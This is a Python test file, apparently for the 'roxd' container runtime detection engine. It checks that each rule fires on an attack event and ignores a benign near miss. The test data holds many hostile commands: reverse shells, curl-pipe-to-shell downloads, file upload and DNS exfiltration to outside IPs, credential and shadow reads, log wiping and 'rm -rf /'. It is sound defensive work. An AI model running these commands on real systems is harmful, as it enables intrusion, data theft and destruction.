"""Every shipped rule, exercised: one event it must match and one near miss it must not.

The table below must cover every rule id in rules/: a new rule without cases fails here.
"""

from __future__ import annotations

import dataclasses
import shlex
from collections import Counter
from pathlib import Path

import pytest

from roxd.model import (
    ActionKind,
    Ancestor,
    ConnectEvent,
    Container,
    EnrichedEvent,
    ExecEvent,
    FileEvent,
    Phase,
    Process,
    SyscallEvent,
)
from roxd.rules import KillPath, RuleSet, load_rule_set

pytestmark = pytest.mark.unit

PACK = Path(__file__).resolve().parents[2] / "rules"
HOST = "host"


def container(image: str = "acme/app:1.0") -> Container:
    return Container(id="c" * 64, runtime="docker", name="app-1", image=image)


def run(
    command: str,
    parent: str | None = "/bin/bash",
    image: str = "acme/app:1.0",
    exe: str | None = None,
    ancestors: tuple[str, ...] = (),
    parent_cmd: str = "",
) -> EnrichedEvent:
    """An exec of `command` (shell-split; argv[0] resolved under /usr/bin unless absolute)."""
    args = tuple(shlex.split(command))
    exe = exe or (args[0] if args[0].startswith("/") else f"/usr/bin/{args[0]}")
    chain = []
    if parent:
        chain.append(Ancestor(100, parent, tuple(shlex.split(parent_cmd)) or (parent,)))
    chain.extend(Ancestor(101 + i, a) for i, a in enumerate(ancestors))
    process = Process(
        pid=200,
        ppid=100,
        uid=0,
        exe=exe,
        comm=exe.rpartition("/")[2][:15],
        args=args,
        cgroup_id=7,
        ancestors=tuple(chain),
    )
    event = ExecEvent(1, 200, 100, 0, 0, 7, process.comm, exe, args, False)
    return EnrichedEvent(event, None if image == HOST else container(image), process)


def connect(
    daddr: str,
    dport: int,
    image: str = "acme/app:1.0",
    exe: str = "/usr/bin/curl",
    ancestors: tuple[str, ...] = (),
) -> EnrichedEvent:
    family = "ipv6" if ":" in daddr else "ipv4"
    process = Process(
        pid=300,
        ppid=1,
        uid=1000,
        exe=exe,
        comm=exe.rpartition("/")[2],
        args=(exe,),
        cgroup_id=7,
        ancestors=tuple(Ancestor(301 + i, a) for i, a in enumerate(ancestors)),
    )
    event = ConnectEvent(1, 300, 300, 1000, 7, process.comm, family, daddr, dport, 0)
    return EnrichedEvent(event, None if image == HOST else container(image), process)


def _proc(exe: str, comm: str | None = None, ancestors: tuple[str, ...] = ()) -> Process:
    return Process(pid=400, ppid=1, uid=0, exe=exe, comm=comm or exe.rpartition("/")[2][:15],
                   args=(exe,), cgroup_id=7,
                   ancestors=tuple(Ancestor(401 + i, a) for i, a in enumerate(ancestors)))


def file_access(
    path: str,
    access: tuple[str, ...],
    exe: str = "/bin/sh",
    image: str = "acme/app:1.0",
    operation: str = "open",
    ancestors: tuple[str, ...] = (),
) -> EnrichedEvent:
    process = _proc(exe, ancestors=ancestors)
    event = FileEvent(1, 400, 0, 7, process.comm, operation, path, access, resolved=path)
    return EnrichedEvent(event, None if image == HOST else container(image), process)


def syscall(
    name: str,
    args: dict[str, int | str] | None = None,
    errno: int = 0,
    exe: str = "/app/bin/server",
    comm: str | None = None,
    image: str = "acme/app:1.0",
    ancestors: tuple[str, ...] = (),
) -> EnrichedEvent:
    process = _proc(exe, comm, ancestors)
    event = SyscallEvent(1, 400, 0, 7, process.comm, name, errno, args or {})
    return EnrichedEvent(event, None if image == HOST else container(image), process)


def fileless(filename: str, comm: str = "payload") -> EnrichedEvent:
    process = Process(pid=500, ppid=1, uid=0, exe=filename, comm=comm, args=("x",), cgroup_id=7)
    event = ExecEvent(1, 500, 1, 0, 0, 7, comm, filename, ("x",), False,
                      fileless=filename.startswith(("/dev/fd/", "/proc/")))
    return EnrichedEvent(event, container(), process)


WRITE = ("write", "create", "truncate")

# rule id -> (an event the rule must match, a near miss it must not match)
CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
    # ------------------------------------------------------------------ foothold
    "foothold.shell-in-container": (
        run("/bin/sh -c id", parent="/usr/bin/python3"),
        run("/bin/sh -c id", parent="/sbin/tini"),  # an init supervisor's child
    ),
    "foothold.shell-from-web-server": (
        run("/bin/sh -c 'id; uname -a'", parent="/usr/sbin/nginx"),
        run("/bin/sh -c '/usr/sbin/sendmail -t -i'", parent="/usr/sbin/php-fpm8.2"),
    ),
    "foothold.netcat-exec": (
        run("nc -lvnp 4444 -e /bin/sh"),
        run("nc -zv db 5432"),
    ),
    "foothold.socat-exec": (
        run("socat TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr"),
        run("socat TCP-LISTEN:8080,fork TCP:backend:80"),
    ),
    "foothold.reverse-shell-dev-tcp": (
        run("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"),
        run("bash -c 'ls /dev/tty'"),
    ),
    "foothold.reverse-shell-pipe": (
        run("sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'"),
        run("sh -c 'cat /etc/hosts | grep localhost'"),
    ),
    "foothold.reverse-shell-interpreter": (
        run(
            'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",'
            '4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''
        ),
        run("python3 -c 'import socket; print(socket.gethostname())'"),
    ),
    "foothold.exec-from-tmp": (
        run("/tmp/x86_64 --daemon", exe="/tmp/x86_64"),
        run("/tmp/go-build123/b001/exe/main", exe="/tmp/go-build123/b001/exe/main"),
    ),
    "foothold.exec-from-dev-shm": (
        run("/dev/shm/kworker", exe="/dev/shm/kworker"),
        run("/usr/bin/shmctl"),
    ),
    "foothold.exec-from-hidden-directory": (
        run("/var/tmp/.X11/.x/kthreadd", exe="/var/tmp/.X11/.x/kthreadd"),
        run("/root/.local/bin/poetry install", exe="/root/.local/bin/poetry"),
    ),
    "foothold.download-piped-to-shell": (
        run("sh -c 'curl -fsSL http://198.51.100.7/x.sh | sh'"),
        run("sh -c 'curl -fsSL http://198.51.100.7/x.json | jq .'"),
    ),
    "foothold.download-to-temp": (
        run("wget -O /tmp/kdevtmpfsi http://198.51.100.7/k"),
        run("wget -O /app/data.json http://198.51.100.7/d"),
    ),
    "foothold.package-manager-in-container": (
        run("apt-get install -y nmap"),
        run("apt-get install -y nmap", image=HOST),
    ),
    "foothold.compiler-in-container": (
        run("gcc -o /tmp/x exploit.c"),
        run("gcc -o /tmp/x exploit.c", image=HOST),
    ),
    # ------------------------------------------------------------------ privilege escalation
    "privilege_escalation.setuid-chmod": (
        run("chmod u+s /tmp/bash"),
        run("chmod 0755 /tmp/bash"),
    ),
    "privilege_escalation.namespace-tools-in-container": (
        run("nsenter -t 1 -m -u -n -i sh"),
        run("nsenter -t 1 -m -u -n -i sh", image=HOST),
    ),
    "privilege_escalation.mount-in-container": (
        run("mount /dev/sda1 /mnt"),
        run("mount"),
    ),
    "privilege_escalation.read-shadow": (
        run("cat /host/etc/shadow"),
        run("cat /etc/passwd"),
    ),
    "privilege_escalation.sudo-su-in-container": (
        run("sudo -i"),
        run("sudo -i", image=HOST),
    ),
    "privilege_escalation.container-runtime-client": (
        run("docker run -v /:/host --privileged alpine"),
        run("docker run -v /:/host --privileged alpine", image=HOST),
    ),
    "privilege_escalation.runtime-socket-raw-client": (
        run("curl --unix-socket /var/run/docker.sock http://localhost/containers/json"),
        run("curl --unix-socket /run/app.sock http://localhost/health"),
    ),
    "privilege_escalation.setcap-in-container": (
        run("setcap cap_setuid+ep /usr/bin/python3"),
        run("getcap /usr/bin/python3"),
    ),
    "privilege_escalation.kernel-module-in-container": (
        run("insmod /tmp/rootkit.ko", exe="/sbin/insmod"),
        run("lsmod"),
    ),
    "privilege_escalation.chroot-in-container": (
        run("chroot /host /bin/bash"),
        run("chroot /host /bin/bash", image=HOST),
    ),
    "privilege_escalation.kernel-hook-write": (
        run("tee /sys/fs/cgroup/rdma/x/release_agent"),
        run("tee /tmp/notes.txt"),
    ),
    "privilege_escalation.ptrace-attach-in-container": (
        run("gdb -p 1"),
        run("gdb ./app"),
    ),
    "privilege_escalation.docker-api-connect": (
        connect("172.17.0.1", 2375),
        connect("172.17.0.1", 2377),
    ),
    "privilege_escalation.cloud-metadata-connect": (
        connect("::ffff:169.254.169.254", 80),
        connect("169.254.169.253", 80),
    ),
    # ------------------------------------------------------------------ persistence
    "persistence.scheduled-task": (
        run("crontab /tmp/jobs"),
        run("crontab -l"),
    ),
    "persistence.account-created": (
        run("useradd -o -u 0 backdoor"),
        run("useradd --system app", parent="/bin/sh", ancestors=("/usr/bin/dpkg",)),
    ),
    "persistence.account-modified": (
        run("usermod -aG sudo www-data"),
        run("passwd -S root"),
    ),
    "persistence.service-enabled": (
        run("systemctl enable evil.service", image=HOST),
        run("systemctl status sshd", image=HOST),
    ),
    "persistence.cron-file-write": (
        run("tee -a /etc/crontab"),
        run("tee -a /etc/hosts"),
    ),
    "persistence.authorized-keys-write": (
        run("cp /tmp/k.pub /root/.ssh/authorized_keys"),
        run("cp /tmp/k.pub /root/.ssh/known_hosts"),
    ),
    "persistence.sshd-config-write": (
        run("sed -i s/PermitRootLogin.no/PermitRootLogin.yes/ /etc/ssh/sshd_config"),
        run("sed -n /PermitRootLogin/p /etc/ssh/sshd_config"),
    ),
    "persistence.shell-profile-write": (
        run("tee -a /root/.bashrc"),
        run("cat /root/.bashrc"),
    ),
    "persistence.service-file-write": (
        run("cp /tmp/evil.service /etc/systemd/system/evil.service", image=HOST),
        run("cp /etc/systemd/system.conf /tmp/system.conf", image=HOST),
    ),
    "persistence.ld-preload-write": (
        run("tee /etc/ld.so.preload"),
        run("cat /etc/ld.so.preload"),
    ),
    "persistence.ssh-server-in-container": (
        run("/usr/sbin/sshd -D"),
        run("/usr/sbin/sshd -D", image="gitea/gitea:1.21"),
    ),
    # ------------------------------------------------------------------ lateral movement
    "lateral_movement.network-scanner": (
        run("nmap -sS 10.0.0.0/24"),
        run("nslookup db"),
    ),
    "lateral_movement.remote-copy-from-container": (
        run("rsync -a /data/ backup@10.0.0.9:/srv/"),
        run("rsync -a /data/ /backup/"),
    ),
    "lateral_movement.ssh-client-in-container": (
        run("ssh root@10.0.0.5"),
        run("ssh git@github.com git-upload-pack 'x.git'", parent="/usr/bin/git"),
    ),
    "lateral_movement.ssh-connect-from-container": (
        connect("10.0.0.5", 22, exe="/usr/bin/python3"),
        connect("10.0.0.5", 22, exe="/usr/bin/ssh", ancestors=("/usr/bin/git",)),
    ),
    "lateral_movement.kubelet-connect": (
        connect("10.0.0.2", 10250),
        connect("10.0.0.2", 10250, image="registry.k8s.io/metrics-server/metrics-server:v0.7.0"),
    ),
    "lateral_movement.etcd-connect": (
        connect("10.0.0.2", 2379),
        connect("10.0.0.2", 2379, image="registry.k8s.io/kube-apiserver:v1.29.0"),
    ),
    "lateral_movement.kubernetes-client-in-container": (
        run("kubectl get secrets -A"),
        run("kubectl get secrets -A", image=HOST),
    ),
    "lateral_movement.tunneling-tool": (
        run("/opt/chisel client 198.51.100.7:8000 R:socks", exe="/opt/chisel"),
        run("/opt/chisel-docs", exe="/opt/chisel-docs"),
    ),
    "lateral_movement.ssh-port-forward-in-container": (
        run("ssh -fNR 9000:localhost:22 tunnel@198.51.100.7"),
        run("ssh -oLogLevel=ERROR deploy@10.0.0.5 uptime"),
    ),
    # ------------------------------------------------------------------ objectives
    "objectives.crypto-miner-binary": (
        run("/tmp/xmrig -o pool:3333", exe="/tmp/xmrig"),
        run("/usr/bin/xmrig-docs", exe="/usr/bin/xmrig-docs"),
    ),
    "objectives.crypto-miner-arguments": (
        run("/usr/bin/kworker -o stratum+tcp://pool.example:3333 -u wallet"),
        run("/usr/bin/curl -o out.html https://example.org/stratum"),
    ),
    "objectives.mining-pool-port-connect": (
        connect("203.0.113.9", 3333),
        connect("10.0.0.3", 4444, image="selenium/hub:4.18"),
    ),
    "objectives.log-wipe": (
        run("shred -u /var/log/auth.log"),
        run("rm /tmp/app.log"),
    ),
    "objectives.history-wipe": (
        run("ln -sf /dev/null /root/.bash_history"),
        run("ln -sf /usr/bin/python3 /usr/local/bin/python"),
    ),
    "objectives.firewall-flush-in-container": (
        run("iptables -F"),
        run("iptables -L -n"),
    ),
    "objectives.disable-security-tooling": (
        run("systemctl stop auditd", image=HOST),
        run("systemctl stop nginx", image=HOST),
    ),
    "objectives.packet-sniffer-in-container": (
        run("tcpdump -i any -w /tmp/c.pcap"),
        run("tcpdump -i any -w /tmp/c.pcap", image=HOST),
    ),
    # ------------------------------------------------------------------ syscalls and files
    "foothold.fileless-exec": (
        fileless("/dev/fd/3"),
        fileless("/proc/self/fd/5", comm="runc:[2:INIT]"),
    ),
    "privilege_escalation.shadow-file-read": (
        file_access("/etc/shadow", ("read",)),
        file_access("/etc/shadow", ("read",), exe="/usr/sbin/sshd"),
    ),
    "privilege_escalation.release-agent-modified": (
        file_access("/sys/fs/cgroup/rdma/release_agent", WRITE),
        file_access("/sys/fs/cgroup/rdma/release_agent", ("read",)),
    ),
    "privilege_escalation.ptrace-syscall": (
        syscall("ptrace", {"flags": "PTRACE_ATTACH", "target_pid": 1}),
        syscall("ptrace", {"flags": "PTRACE_TRACEME"}),
    ),
    "privilege_escalation.namespace-syscall-in-container": (
        syscall("unshare", {"flags": "CLONE_NEWUSER|CLONE_NEWNS"}, errno=1),
        syscall("unshare", {"flags": "CLONE_NEWNS"}, comm="runc:[1:CHILD]"),
    ),
    "privilege_escalation.mount-syscall-in-container": (
        syscall("mount", {"path": "/mnt", "fstype": "ext4", "source": "/dev/sda1"}, errno=1),
        syscall("mount", {"path": "/proc", "fstype": "proc"}, comm="runc:[2:INIT]"),
    ),
    "privilege_escalation.kernel-module-syscall": (
        syscall("finit_module", {"fd": 3}, image=HOST, exe="/tmp/loader"),
        syscall("finit_module", {"fd": 3}, image=HOST, exe="/usr/bin/kmod"),
    ),
    "foothold.io-uring-in-container": (
        syscall("io_uring_setup", {"sq_entries": 4, "cq_entries": 8}),
        syscall("io_uring_setup", {"sq_entries": 4, "cq_entries": 8}, image=HOST),
    ),
    "foothold.io-uring-connect-or-open-in-container": (
        syscall("io_uring_submit", {"flags": "IORING_OP_CONNECT", "opcode": "IORING_OP_CONNECT",
                                    "requests": 1}),
        syscall("io_uring_submit", {"flags": "IORING_OP_READ", "opcode": "IORING_OP_READ",
                                    "requests": 1}),
    ),
    "privilege_escalation.bpf-syscall-in-container": (
        syscall("bpf", {"flags": "BPF_PROG_LOAD", "cmd": "BPF_PROG_LOAD"}),
        syscall("bpf", {"flags": "BPF_PROG_LOAD", "cmd": "BPF_PROG_LOAD"}, image=HOST),
    ),
    "privilege_escalation.setuid-bit-syscall": (
        syscall("chmod", {"flags": "S_ISUID", "mode": "0o4755", "path": "/tmp/sh"}),
        syscall("chmod", {"flags": "S_ISUID", "mode": "0o4755", "path": "/usr/bin/ping"},
                ancestors=("/usr/bin/dpkg",)),
    ),
    "persistence.cron-file-modified": (
        file_access("/etc/cron.d/y", ("write", "create")),
        file_access("/etc/cron.d/y", ("read",)),
    ),
    "persistence.authorized-keys-modified": (
        file_access("/root/.ssh/authorized_keys", ("write", "create")),
        file_access("/root/.ssh/known_hosts", ("write", "create")),
    ),
    "persistence.shell-profile-modified": (
        file_access("/home/app/.bashrc", ("write",)),
        file_access("/home/app/.bashrc", ("read",)),
    ),
    "persistence.ld-preload-modified": (
        file_access("/etc/ld.so.preload", WRITE),
        file_access("/etc/ld.so.conf", WRITE),
    ),
    "persistence.account-file-modified": (
        file_access("/etc/sudoers.d/zz", ("write", "create")),
        file_access("/etc/passwd", WRITE, exe="/usr/sbin/useradd"),
    ),
    "persistence.systemd-unit-modified": (
        file_access("/etc/systemd/system/evil.service", ("write", "create"), image=HOST),
        file_access("/etc/systemd/system/evil.service", ("write",), exe="/usr/bin/systemctl"),
    ),
    "objectives.log-file-tampered": (
        file_access("/var/log/auth.log", ("truncate", "write")),
        file_access("/var/log/auth.log", ("rename", "create", "write"), operation="rename"),
    ),
    "objectives.file-upload-from-container": (
        run("curl -F file=@/etc/passwd http://198.51.100.7/u"),
        run("curl -fsS http://api/health"),
    ),
    # ------------------------------------------- issue 21: variants measured with Atomic Red Team
    "foothold.script-from-temp": (
        run("bash /tmp/tmp.Xa12bc"),
        run("bash /app/start.sh"),
    ),
    "foothold.decoded-payload-to-shell": (
        run("/bin/sh -c 'echo aWQK | base64 -d | bash'", parent="/usr/bin/python3"),
        run("/bin/sh -c 'echo $SECRET | base64 -d > /run/secret'", parent="/usr/bin/python3"),
    ),
    "foothold.masqueraded-executable": (
        run("sh /var/tmp/holiday.png"),
        run("sh /app/render-png.sh"),
    ),
    "foothold.sandbox-detection": (
        run("systemd-detect-virt"),
        run("systemd-detect-virt", image=HOST),
    ),
    "foothold.root-certificate-installed": (
        run("update-ca-certificates"),
        run("update-ca-certificates", ancestors=("/usr/bin/dpkg",)),
    ),
    "objectives.history-tampering-command": (
        run("/bin/bash -c 'unset HISTFILE; id'"),
        run("/bin/bash -c 'echo $HISTFILE; id'"),
    ),
    "objectives.secure-delete": (
        run("shred -u /tmp/loot.txt"),
        run("dd if=/dev/zero of=/tmp/disk.img bs=1M count=10"),
    ),
    "objectives.timestomp": (
        run("touch -acmr /bin/sh /tmp/implant"),
        run("touch /tmp/ready"),
    ),
    "objectives.data-piped-to-network-tool": (
        run("/bin/sh -c 'tar czf - /data | ssh backup@198.51.100.9 \"cat > d.tgz\"'"),
        run("/bin/sh -c 'tar czf /backup/d.tgz /data'"),
    ),
    "objectives.ad-hoc-file-server": (
        run("python3 -m http.server 9090"),
        run("python3 -m http.server 8081 --bind 127.0.0.1", parent="/usr/bin/python3",
            parent_cmd="/usr/bin/python3 /usr/bin/supervisord -n -c /etc/supervisord.conf"),
    ),
    "objectives.service-stopped-in-container": (
        run("systemctl stop cron"),
        run("systemctl status cron"),
    ),
    "objectives.data-encrypted": (
        run("openssl enc -aes-256-cbc -pass pass:x -in data.zip -out data.enc"),
        run("openssl x509 -in cert.pem -noout -text"),
    ),
    "objectives.logging-config-changed": (
        run("sed -i s/Storage=auto/Storage=none/ /etc/systemd/journald.conf"),
        run("cat /etc/systemd/journald.conf"),
    ),
    "objectives.system-protection-lowered": (
        run("sysctl -w kernel.randomize_va_space=0"),
        run("sysctl kernel.randomize_va_space"),
    ),
    "objectives.proc-sys-written": (
        file_access("/proc/sysrq-trigger", ("write",)),
        file_access("/proc/sys/kernel/randomize_va_space", ("read",)),
    ),
    "objectives.logging-config-modified": (
        file_access("/etc/rsyslog.d/99-x.conf", ("write", "create")),
        file_access("/etc/rsyslog.conf", ("read",)),
    ),
    "privilege_escalation.process-memory-dump": (
        run("dd if=/proc/1234/mem of=/tmp/heap.bin bs=1 skip=94000 count=4096"),
        run("cat /proc/1234/status"),
    ),
    "privilege_escalation.process-memory-opened": (
        file_access("/proc/1234/mem", ("read",), exe="/usr/bin/python3"),
        file_access("/proc/1234/mem", ("read",), exe="/usr/bin/gdb"),
    ),
    "privilege_escalation.credential-search": (
        run("find / -name id_rsa"),
        run("find /app -name '*.log'"),
    ),
    "privilege_escalation.setuid-search": (
        run("find / -perm -4000 -type f"),
        run("find /app -perm -644"),
    ),
    "privilege_escalation.shell-history-read": (
        run("cat /root/.bash_history"),
        run("cat /root/.bashrc"),
    ),
    "privilege_escalation.cloud-metadata-request": (
        run("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        run("curl -s http://10.0.0.5/latest/news"),
    ),
    "lateral_movement.shell-network-sweep": (
        run("/bin/sh -c 'for i in $(seq 1 254); do ping -c1 10.0.0.$i; done'"),
        run("/bin/sh -c 'for i in $(seq 1 30); do nc -z db 5432 && break; sleep 1; done'"),
    ),
    "persistence.python-startup-hook": (
        run("cp /tmp/x.py /usr/lib/python3/dist-packages/sitecustomize.py"),
        run("cp /tmp/x.py /usr/lib/python3/dist-packages/sitecustomize.py",
            ancestors=("/usr/bin/pip",)),
    ),
    "persistence.python-startup-hook-modified": (
        file_access("/root/.local/lib/python3.11/site-packages/usercustomize.py", WRITE),
        file_access("/root/.local/lib/python3.11/site-packages/usercustomize.py", ("read",)),
    ),
    "foothold.interpreter-download-exec": (
        run("python3 -c 'import os,urllib.request as u;u.urlretrieve(URL,F);os.system(CMD)'"),
        run("python3 -c 'import urllib.request as u;u.urlopen(HEALTH_URL)'"),
    ),
    "foothold.ld-preload-from-writable-path": (
        run("/bin/sh -c 'LD_PRELOAD=/tmp/hook.so ls'"),
        run("/bin/sh -c 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 exec redis'"),
    ),
    "objectives.dns-exfiltration": (
        run("dig @10.0.0.2 dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.example.com"),
        run("dig @10.0.0.2 db.internal.example.com"),
    ),
    "privilege_escalation.password-guessing": (
        run("/bin/sh -c 'for p in $(cat list); do sshpass -p $p ssh root@10.0.0.5; done'"),
        run("/bin/sh -c 'sshpass -e ssh deploy@10.0.0.5 uptime'"),
    ),
    "foothold.transient-service": (
        run("systemd-run --unit=x --wait /bin/bash -c id"),
        run("systemd-run --scope -p MemoryMax=1G mount -t nfs a:/b /mnt"),
    ),
    "persistence.transient-timer": (
        run("systemd-run --unit=x --on-calendar *:0/1 /bin/sh -c id"),
        run("systemd-run --unit=x --wait /bin/sh -c id"),
    ),
    "objectives.remote-file-transfer": (
        run("scp attacker@198.51.100.4:/srv/tool /tmp/tool"),
        run("scp /tmp/a /tmp/b"),
    ),
    "objectives.sensitive-files-archived": (
        run("zip /root/data.zip /var/log/wtmp /var/log/btmp"),
        run("tar czf /backup/etc.tgz /etc"),
    ),
    "objectives.service-process-killed": (
        run("pkill -SIGTERM ^cron$"),
        run("pkill -HUP rsyslogd"),
    ),
    "foothold.immutable-attribute-changed": (
        run("chattr -i /etc/ld.so.preload"),
        run("lsattr /etc/ld.so.preload"),
    ),
    "foothold.proc-bind-mount": (
        run("mount -B /proc/1 /proc/4242"),
        run("mount -t tmpfs tmpfs /mnt"),
    ),
    "lateral_movement.neighbour-discovery": (
        run("ip neigh show"),
        run("ip route show"),
    ),
    "objectives.lolbin-transfer": (
        run("whois -h 198.51.100.3 -p 8443 payload"),
        run("whois example.org"),
    ),
    "objectives.account-access-removed": (
        run("passwd -l alice"),
        run("passwd -S alice"),
    ),
    "foothold.hidden-file-in-temp": (
        run("mkdir -p /tmp/.X25-unix/.rsync"),
        run("mkdir -p /tmp/.X11-unix"),
    ),
    "persistence.shell-trap": (
        run("/bin/bash -c 'trap \"echo $BASH_COMMAND >> /tmp/k\" DEBUG; id'"),
        run("/bin/bash -c 'trap \"rm -f /tmp/lock\" EXIT; id'"),
    ),
    # ------------------------------------------------------------------ issue 21, second pass
    "foothold.script-not-in-image": (
        dataclasses.replace(run("python3 T1059.006.py"), script_drift="new"),
        # the image's own script; and a dropped one run by pip's build step
        dataclasses.replace(run("python3 /app/main.py"), script_drift="none"),
    ),
    "foothold.interpreter-inline-decode": (
        run("python3 -c 'import base64;exec(base64.b64decode(\"aW1wb3J0IG9z\"))'"),
        run("python3 -c 'import base64;print(base64.b64encode(b\"x\"))'"),
    ),
    "foothold.busybox-shell-by-name": (
        run("busybox sh", exe="/bin/busybox"),
        run("busybox ls /", exe="/bin/busybox"),
    ),
    "privilege_escalation.account-file-read": (
        run("cat /etc/passwd"),
        run("grep -q ^app: /etc/passwd"),  # an entrypoint checking for its user
    ),
    "privilege_escalation.service-manager-queried-in-container": (
        run("systemctl list-units --type=service --all"),
        run("systemctl --version"),
    ),
    "lateral_movement.cleartext-remote-client": (
        run("telnet 127.0.0.1 8081"),
        run("nc -zv db 5432"),
    ),
    "objectives.download-tool-custom-agent": (
        run("curl -s -A 'Opera/8.81 (Windows NT 6.0; U; en)' -m3 http://10.0.0.1/"),
        run("curl -fsS -H 'Accept: application/json' http://api:8080/health"),
    ),
    "objectives.wget-posts-data": (
        run("wget --post-data=msg=hello --timeout=5 https://10.0.0.1/"),
        run("wget -q -O- http://127.0.0.1:8080/health"),
    ),
    "privilege_escalation.process-environment-read": (
        file_access("/proc/1/environ", ("read",), exe="/usr/bin/cat"),
        file_access("/proc/1/environ", ("read",), exe="/usr/bin/ps"),
    ),
    "privilege_escalation.ssh-private-key-read": (
        file_access("/root/.ssh/id_ed25519", ("read",), exe="/usr/bin/base64"),
        file_access("/root/.ssh/id_ed25519", ("read",), exe="/usr/bin/ssh"),
    ),
    "foothold.network-tool-in-package-install": (
        run("curl -fsSL http://10.0.0.1/stage2 -o /tmp/s", parent="/bin/sh",
            ancestors=("/usr/bin/node", "/usr/bin/npm")),
        run("curl -fsSL http://10.0.0.1/stage2 -o /tmp/s", parent="/bin/sh"),
    ),
    "foothold.file-padded": (
        run("truncate -s +1 /tmp/evil-binary"),
        run("truncate -s 0 /var/log/app.log"),
    ),
    # ------------------------------------------------------------------ issue 21, third pass
    "foothold.temp-file-permissions-opened": (
        run("chmod a+w /tmp/stage/drop"),
        run("chmod 700 /tmp/app-runtime"),  # a private runtime directory
    ),
    "foothold.temp-file-decoded": (
        run("xxd -r -p /tmp/T1140.encoded"),
        run("xxd -r -p"),  # a stream: a hex digest turned into bytes
    ),
    "foothold.ping-as-delay": (
        run("ping -c 250 8.8.8.8"),
        run("ping -c 3 db"),
    ),
    "privilege_escalation.system-file-permissions-opened": (
        run("chmod 666 /etc/passwd"),
        run("chmod 644 /etc/passwd"),
    ),
    "objectives.home-or-config-archived": (
        run("tar -cvzf /root/data.tar.gz /root/"),
        run("tar -C /srv -czf /backup/data.tar.gz data"),
    ),
    "objectives.file-split-into-chunks": (
        run("split -b 5000000 T1030_urandom"),
        run("split -l 1000 orders.csv part-"),
    ),
    "objectives.system-tree-deleted": (
        run("rm -rf / --no-preserve-root"),
        run("rm -rf /var/lib/apt/lists/*"),
    ),
    "objectives.archive-encoded": (
        run("sh -c 'tar czf - /root/.ssh | base64 -w0 > /tmp/x'"),
        run("sh -c 'tar czf - data | sha256sum'"),
    ),
    "objectives.tor-or-proxy-chain": (
        run("systemctl start tor"),
        run("systemctl start nginx"),
    ),
    "objectives.tor-port-connect": (
        connect("127.0.0.1", 9050),
        connect("127.0.0.1", 9090),  # Prometheus
    ),
}


@pytest.fixture(scope="module")
def pack() -> RuleSet:
    return load_rule_set([PACK])


def matched_ids(rule_set: RuleSet, event: EnrichedEvent) -> set[str]:
    return {m.rule.id for m in rule_set.match(event)}


def test_table_covers_every_shipped_rule(pack: RuleSet) -> None:
    ids = {rule.id for rule in pack.rules}
    assert ids - CASES.keys() == set(), "rules without a positive/negative case in CASES"
    assert CASES.keys() - ids == set(), "cases for rules that are not in the pack"


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_matches_its_positive_case(pack: RuleSet, rule_id: str) -> None:
    positive, _ = CASES[rule_id]
    assert rule_id in matched_ids(pack, positive)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_ignores_its_near_miss(pack: RuleSet, rule_id: str) -> None:
    _, negative = CASES[rule_id]
    assert rule_id not in matched_ids(pack, negative)


def test_pack_has_forty_rules_over_all_five_phases(pack: RuleSet) -> None:
    assert len(pack.rules) >= 40
    phases = Counter(rule.phase for rule in pack.rules)
    assert set(phases) == set(Phase)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_is_documented(pack: RuleSet, rule_id: str) -> None:
    rule = pack.get(rule_id)
    assert rule is not None
    assert rule.mitre and all(t.startswith("T") for t in rule.mitre)
    assert rule.id.split(".")[0] == rule.phase.value  # ids are namespaced by their phase
    assert len(rule.description) > 120 and "benign" in rule.description.lower()
    assert rule.enabled


def test_only_the_miner_binary_rule_is_killed_in_the_kernel(pack: RuleSet) -> None:
    specs = pack.exec_kill_specs()
    assert [s.rule_id for s in specs] == ["objectives.crypto-miner-binary"]
    spec = specs[0]
    assert "xmrig" in spec.exe_basenames and not spec.exe_paths
    assert spec.scope.matches_container(None) and spec.scope.matches_container(container())
    assert spec.scope.matches_any_container()
    notes = pack.effective_action_notes(host_kills=True)
    assert notes["objectives.crypto-miner-binary"] == "alert; kill: in-kernel"
    assert notes["objectives.crypto-miner-arguments"] == "alert; kill: userspace"
    default = pack.effective_action_notes()  # [enforce] host_kills = false, the default
    assert default["objectives.crypto-miner-binary"] == (
        "alert; kill: in-kernel, containers only (host kills off)")
    args_rule = pack.get("objectives.crypto-miner-arguments")
    assert args_rule is not None and args_rule.kill_path is KillPath.USERSPACE
    assert ActionKind.KILL in args_rule.actions


def test_an_exec_session_shell_is_a_foothold_whoever_roxd_sees_as_its_parent(
        pack: RuleSet) -> None:
    """`docker exec c sh`: its parent is runc, or the shim once runc exited, or unknown when
    roxd read it too late. The verdict must not depend on which (it did: runtimes were
    excepted, so the alert fired only when the parent was unknown)."""
    for parent in ("/usr/bin/runc", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/crun", None):
        event = run("/bin/sh -c id", parent=parent)
        assert "foothold.shell-in-container" in matched_ids(pack, event), parent


def _entrypoint_run(command: str, parent: str, parent_cmd: str = "",
                    session: str | None = "entrypoint") -> EnrichedEvent:
    event = run(command, parent=parent, parent_cmd=parent_cmd)
    assert event.process is not None
    return dataclasses.replace(event, process=dataclasses.replace(event.process,
                                                                  session=session))


def test_an_application_runtime_shelling_out_one_command_is_not_a_foothold(
        pack: RuleSet) -> None:
    """subprocess.run(..., shell=True) in a Python job (the benign suite's
    python-subprocess-job) is how applications work; a shell with no command, a command that is
    just a shell, a web server's shell, awk's system() and any other session still match."""
    rule = "foothold.shell-in-container"
    quiet = [
        ("/bin/sh -c 'gzip -c /data/report.csv > /data/report.csv.gz'", "/usr/bin/python3.11",
         "python3 /app/report.py"),
        ("/bin/sh -c 'ls -l /srv'", "/usr/bin/node", "node /app/worker.js"),
        ("/bin/bash -ec 'make -C /app all'", "/usr/bin/ruby", "ruby jobs.rb"),
    ]
    for command, parent, parent_cmd in quiet:
